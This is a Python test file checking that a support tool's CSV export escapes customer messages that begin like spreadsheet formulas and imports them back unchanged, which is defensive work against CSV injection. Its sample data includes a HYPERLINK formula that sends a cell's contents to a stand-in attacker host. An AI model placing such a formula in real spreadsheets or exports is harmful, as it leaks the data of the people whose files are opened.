"""A .csv written by supportcue (`export`, `--predictions`, `weak`) opens in a spreadsheet as text:
a customer's message that starts like a formula (`=HYPERLINK(...)`, `+1 ...`, `-`, `@`) is written
with a leading `'`, which the importer takes off again, so an export imports back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

from supportcue.data.exporter import export_table
from supportcue.data.files import read_rows, write_rows
from supportcue.data.importer import import_file
from supportcue.data.store import Store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"refund")',
    "+1 555 0100 called",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
PLAIN = ["How do I pause payouts?", "a = b", "", "'quoted", "3 - 1"]


def test_cells_that_start_like_a_formula_are_written_as_text_and_read_back(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    rows = [{"id": f"r{i}", "message": text, "n": -5} for i, text in enumerate(FORMULAS + PLAIN)]
    write_rows(path, rows)
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [row["message"] for row in csv.DictReader(handle)]
    for cell in cells[: len(FORMULAS)]:
        assert cell.startswith("'"), cell  # a spreadsheet shows it as text, never evaluates it
    assert cells[len(FORMULAS) :] == PLAIN
    back = [row for _, row in read_rows(path)]
    assert [r["message"] for r in back] == FORMULAS + PLAIN
    assert {r["n"] for r in back} == {"-5"}  # a number is a number, not text


def test_an_exported_case_imports_back_unchanged(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "cases.jsonl"
    source.write_text('{"id": "c1", "message": "=1+1 why was I charged twice?", "customer_name": "@ana"}\n')
    assert import_file(store, "cases", source).stored == 1
    out = tmp_path / "out.csv"
    export_table(store, "cases", out)
    assert "'=1+1 why" in out.read_text(encoding="utf-8")
    other = tmp_path / "again.csv"
    other.write_text(out.read_text(encoding="utf-8"), encoding="utf-8")
    report = import_file(store, "cases", other)
    assert report.stored == 1 and not report.rejects
    (case,) = [r for r in store.db.rows("cases") if r["id"] == "c1"]
    assert case["message"] == "=1+1 why was I charged twice?" and case["customer_name"] == "@ana"
